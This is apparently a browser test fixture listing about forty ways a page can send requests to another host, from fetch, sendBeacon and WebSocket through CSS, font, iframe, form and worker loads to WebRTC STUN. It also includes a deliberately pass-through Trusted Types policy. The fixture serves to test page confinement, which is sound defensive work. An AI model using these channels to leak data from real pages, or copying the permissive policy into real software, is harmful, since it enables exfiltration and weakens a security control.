/**
 * Every way out of a page that the tests know of. Each vector tries to reach `target` (an http: address on another
 * host); the tests watch who arrives. Made to leak: never part of the product.
 */
'use strict';

// Where Trusted Types hold, the vectors go through a policy that the page allows, so that each of them is stopped
// by its own directive and not by this one.
const policy = globalThis.trustedTypes?.createPolicy('app-worker', { createScriptURL: (url) => url });
const scriptUrl = (url) => policy?.createScriptURL(url) ?? url;

function append(tag, attributes) {
  const element = document.createElement(tag);
  for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
  document.body.append(element);
  return element;
}
const link = (rel, href, more = {}) => append('link', { rel, href, ...more });
const socketUrl = (target) => target.replace(/^http/, 'ws');
const untilLoaded = (worker, message) => worker.postMessage(message);

globalThis.VECTORS = {
  fetch: (target) => fetch(target, { mode: 'no-cors' }),
  'fetch with a body': (target) => fetch(target, { method: 'POST', mode: 'no-cors', body: 'leak' }),
  'fetch keepalive': (target) => fetch(target, { mode: 'no-cors', keepalive: true }),
  XMLHttpRequest(target) {
    const request = new XMLHttpRequest();
    request.open('GET', target);
    request.send();
  },
  sendBeacon: (target) => navigator.sendBeacon(target, 'leak'),
  EventSource: (target) => new EventSource(target),
  WebSocket: (target) => new WebSocket(socketUrl(target)),
  img: (target) => append('img', { src: target }),
  'img srcset': (target) => append('img', { srcset: `${target} 1x` }),
  picture(target) {
    const picture = append('picture', {});
    const source = document.createElement('source');
    source.srcset = target;
    picture.append(source, document.createElement('img'));
  },
  'SVG image'(target) {
    const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
    const image = document.createElementNS('http://www.w3.org/2000/svg', 'image');
    image.setAttribute('href', target);
    svg.append(image);
    document.body.append(svg);
  },
  video: (target) => append('video', { src: target, preload: 'auto' }),
  'video poster': (target) => append('video', { poster: target }),
  audio: (target) => append('audio', { src: target, preload: 'auto' }),
  track(target) {
    const video = append('video', {});
    const track = document.createElement('track');
    track.default = true;
    track.src = target;
    video.append(track);
    track.track.mode = 'showing';
    video.crossOrigin = 'anonymous';
  },
  stylesheet: (target) => link('stylesheet', target),
  'CSS background'(target) {
    document.body.style.backgroundImage = `url("${target}")`;
  },
  'CSS @import'(target) {
    const sheet = append('style', {});
    sheet.textContent = `@import url("${target}");`;
  },
  'CSS list marker, constructed sheet'(target) {
    const sheet = new CSSStyleSheet();
    sheet.insertRule(`body { display: list-item; list-style-image: url("${target}"); }`);
    document.adoptedStyleSheets = [sheet];
  },
  FontFace: (target) => new FontFace('leak', `url("${target}")`).load(),
  script(target) {
    const script = document.createElement('script');
    script.src = scriptUrl(target);
    document.body.append(script);
  },
  'import()': (target) => import(target),
  modulepreload: (target) => link('modulepreload', target),
  preload: (target) => link('preload', target, { as: 'image' }),
  prefetch: (target) => link('prefetch', target),
  preconnect: (target) => link('preconnect', new URL('/', target).href),
  manifest: (target) => document.head.append(link('manifest', target)),
  iframe: (target) => append('iframe', { src: target }),
  object: (target) => append('object', { data: target, type: 'text/html' }),
  embed: (target) => append('embed', { src: target, type: 'text/html' }),
  'a ping': (target) => append('a', { href: '#here', ping: target }).click(),
  'a click': (target) => append('a', { href: target }).click(),
  'form GET': (target) => append('form', { action: target }).submit(),
  'form POST': (target) => append('form', { action: target, method: 'post' }).submit(),
  'window.open': (target) => open(target),
  location(target) {
    location.href = target;
  },
  'meta refresh'(target) {
    const meta = document.createElement('meta');
    meta.httpEquiv = 'refresh';
    meta.content = `0; url=${target}`;
    document.head.append(meta);
  },
  'worker fetch': (target) => untilLoaded(new Worker(scriptUrl('worker.js')), { fetch: target }),
  'worker WebSocket': (target) =>
    untilLoaded(new Worker(scriptUrl('worker.js')), { socket: socketUrl(target) }),
  'worker importScripts': (target) => untilLoaded(new Worker(scriptUrl('worker.js')), { script: target }),
  'shared worker fetch'(target) {
    const shared = new SharedWorker(scriptUrl('worker.js'));
    shared.port.postMessage({ fetch: target });
  },
  async 'service worker fetch'(target) {
    await navigator.serviceWorker.register(scriptUrl('sw.js'));
    const { active } = await navigator.serviceWorker.ready;
    active.postMessage({ fetch: target });
  },
  async 'WebRTC STUN'(target) {
    const { hostname } = new URL(target);
    const connection = new RTCPeerConnection({
      iceServers: [{ urls: `stun:${hostname}:${new URLSearchParams(location.search).get('udp')}` }],
    });
    connection.createDataChannel('leak');
    await connection.setLocalDescription();
  },
};
